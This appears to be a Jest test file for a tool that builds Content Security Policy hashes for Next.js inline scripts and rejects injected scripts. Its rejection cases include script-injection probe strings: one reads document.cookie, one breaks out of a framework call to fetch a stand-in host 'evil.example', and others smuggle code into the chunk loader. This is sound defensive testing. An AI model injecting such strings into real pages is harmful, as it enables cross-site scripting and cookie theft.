import { createHash } from 'node:crypto'

import { describe, expect, it } from '@jest/globals'

import { inlineScriptHashes, isFrameworkScript } from '@server/script-hashes.mjs'

const sha256 = (text: string) =>
  `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`

// The shapes Next.js writes, as they stand in a built page.
const FLIGHT_START = '(self.__next_f=self.__next_f||[]).push([0])'
const FLIGHT_DATA =
  'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n2:I[339756,[],\\"default\\"]\\n"])'
const FLIGHT_ACCENTED =
  'self.__next_f.push([1,"7:[\\"$\\",\\"p\\",null,{\\"children\\":\\"Koforidua–Accra, ₵450\\"}]\\n"])'
const FLIGHT_BINARY = 'self.__next_f.push([3,"AAECAw=="])'
const CHUNK_BOOTSTRAP =
  '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/2v4h0efwtcbd5.js"],"runtimeModuleIds":[494553]});'

function page(...scripts: string[]) {
  return Buffer.from(
    `<!DOCTYPE html><html><head><script src="/_next/static/chunks/a.js" async=""></script></head><body><main>Rooms</main>${scripts.join('')}</body></html>`,
    'utf8',
  )
}

describe('isFrameworkScript', () => {
  it.each([
    ['the payload bootstrap', FLIGHT_START],
    ['the bootstrap with form state', `${FLIGHT_START};self.__next_f.push([2,null])`],
    ['a payload chunk', FLIGHT_DATA],
    ['a binary payload chunk', FLIGHT_BINARY],
    ['the chunk loader', CHUNK_BOOTSTRAP],
    ['two chunk loaders', `${CHUNK_BOOTSTRAP}\n${CHUNK_BOOTSTRAP}`],
  ])('accepts %s', (_name, text) => {
    expect(isFrameworkScript(text)).toBe(true)
  })

  it.each([
    ['any other code', 'alert(document.cookie)'],
    ['code after a payload chunk', `${FLIGHT_DATA};alert(1)`],
    ['code inside the call', 'self.__next_f.push([1,alert(1)])'],
    ['a call that closes early', 'self.__next_f.push([1,"x"]);fetch("//evil.example")//"])'],
    ['an unknown payload kind', 'self.__next_f.push([9,"x"])'],
    ['code after the bootstrap', `${FLIGHT_START};alert(1)`],
    ['code after the chunk loader', `${CHUNK_BOOTSTRAP}alert(1)`],
    [
      'a chunk loader with code for data',
      CHUNK_BOOTSTRAP.replace('{"otherChunks"', 'alert(1)||{"otherChunks"'),
    ],
    ['a chunk loader of two names', CHUNK_BOOTSTRAP.replace('= [])', '= []) || globalThis["x"]')],
    ['an empty script', ''],
  ])('refuses %s', (_name, text) => {
    expect(isFrameworkScript(text)).toBe(false)
  })
})

describe('inlineScriptHashes', () => {
  it("hashes each of Next.js's inline scripts once, as the browser hashes its UTF-8 bytes", () => {
    const html = page(
      `<script id="_R_">${CHUNK_BOOTSTRAP}</script>`,
      `<script>${FLIGHT_START}</script>`,
      `<script>${FLIGHT_DATA}</script>`,
      `<script>${FLIGHT_ACCENTED}</script>`,
      `<script>${FLIGHT_START}</script>`,
    )
    const { hashes, refused } = inlineScriptHashes(html)
    expect(hashes).toEqual([
      sha256(CHUNK_BOOTSTRAP),
      sha256(FLIGHT_START),
      sha256(FLIGHT_DATA),
      sha256(FLIGHT_ACCENTED),
    ])
    expect(refused).toEqual([])
  })

  it('leaves out scripts with a source and data blocks, which need no hash', () => {
    const html = page(
      '<script type="application/ld+json">{"@context":"https://schema.org"}</script>',
      "<script type='application/json'>{}</script>",
      '<script src="/_next/static/chunks/b.js" noModule=""></script>',
    )
    expect(inlineScriptHashes(html)).toEqual({ hashes: [], refused: [] })
  })

  it('refuses injected scripts, however they are written, and names them for the log', () => {
    const html = page(
      `<script>${FLIGHT_DATA}</script>`,
      '<script>alert(1)</script>',
      '<SCRIPT type="text/javascript">alert(2)</SCRIPT >',
      `<script type="module">${FLIGHT_DATA};alert(3)</script>`,
    )
    const { hashes, refused } = inlineScriptHashes(html)
    expect(hashes).toEqual([sha256(FLIGHT_DATA)])
    expect(refused).toEqual(['alert(1)', 'alert(2)', `${FLIGHT_DATA};alert(3)`.slice(0, 80)])
  })

  it('hashes nothing in a page without inline scripts', () => {
    expect(inlineScriptHashes(page())).toEqual({ hashes: [], refused: [] })
  })
})
